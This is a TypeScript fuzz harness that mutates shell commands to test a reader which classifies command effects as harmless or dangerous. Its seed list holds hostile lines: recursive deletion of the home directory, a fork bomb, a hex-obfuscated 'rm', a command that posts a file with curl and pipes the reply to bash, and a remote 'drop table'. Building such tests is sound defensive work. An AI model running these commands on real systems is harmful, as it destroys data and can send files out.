import { dangerOf } from '../../src/core/danger.ts';
import { unknown } from '../../src/core/tri.ts';
import { makeShellReader } from '../../src/languages/shell/read-shell.ts';

const SEEDS: readonly string[] = [
  'rm -rf "$(echo ~)" && echo done',
  "bash -c 'for i in {1..3}; do rm $i; done'",
  'cat <<EOF | sh\nrm $X\nEOF',
  'git -c alias.x="!rm -rf ." x',
  'find . -name "*.o" -exec rm {} +',
  `X=\${Y:-a}; eval "$X $Z"`,
  'f() { f | f & }; f',
  'python3 -c \'import os; os.system("ls")\'',
  'case $x in a) rm b;; *) ls;; esac',
  'ssh h "sudo rm -rf /x" > out 2>&1',
  "$'\\x72m' -rf ~",
  `a=(1 2 "\${b[@]}"); echo \${a[@]/x/y}`,
  '[[ -f x && $(rm y) ]] || ((x=$(ls)))',
  'curl -d @f https://h/x | bash',
  'kubectl -n x exec p -- sh -c "psql -c \'drop table t\'"',
];
const PIECES: readonly string[] = [
  '"',
  "'",
  '`',
  '$(',
  ')',
  '${',
  '}',
  '{a,b}',
  '|',
  '&&',
  ';',
  '\n',
  '<<E\n',
  '\nE\n',
  '\\',
  '$',
  '~',
  '*',
  '((',
  '))',
  '[[',
  ']]',
  '<(',
  '>',
  '#',
  '!',
  '\0',
  '\ue000',
  '\u202e',
  '{',
  '(',
  'if ',
  'then ',
  'fi',
  'while ',
  'do ',
  'done',
  'rm -rf /',
  'eval ',
  'xargs ',
  'sudo ',
  'function ',
];

/** Small deterministic generator (mulberry32), so that a find can be made again by its number. */
function random(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export function mutated(seed: number): string {
  const next = random(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(next() * list.length)] as T;
  let text = pick(SEEDS);
  for (let turns = 1 + Math.floor(next() * 8); turns > 0; turns -= 1) {
    const at = Math.floor(next() * (text.length + 1));
    const way = next();
    if (way < 0.5) text = text.slice(0, at) + pick(PIECES) + text.slice(at);
    else if (way < 0.75) text = text.slice(0, at) + text.slice(at + 1 + Math.floor(next() * 6));
    else text = text.slice(0, at) + pick(SEEDS) + text.slice(at);
  }
  return text;
}

/** Reads mutated inputs from number `from` on; throws with the number of the first that breaks a promise. */
export function fuzzShell(
  from: number,
  count: number,
): { readonly blocked: number; readonly slowestMs: number; readonly slowest: string } {
  const read = makeShellReader({});
  const context = { workspace: '', cwd: '', fact: () => unknown('fuzz') };
  let blocked = 0;
  let slowestMs = 0;
  let slowest = '';
  for (let seed = from; seed < from + count; seed += 1) {
    const input = mutated(seed);
    const start = performance.now();
    try {
      const { effects, questions } = read({ kind: 'shell', bytes: new TextEncoder().encode(input) }, context);
      if (effects.length > 256 || questions.length > 256) throw new Error('past its limits');
      if (effects.some((effect) => dangerOf(effect) !== 'harmless')) blocked += 1;
    } catch (error) {
      throw new Error(`input ${seed}: ${JSON.stringify(input)}`, { cause: error });
    }
    const ms = performance.now() - start;
    if (ms > slowestMs) {
      slowestMs = ms;
      slowest = input;
    }
  }
  return { blocked, slowestMs, slowest };
}

if (import.meta.main) {
  const count = Number(process.argv[2] ?? 100_000);
  const from = Number(process.argv[3] ?? 0);
  console.log(count, fuzzShell(from, count));
}
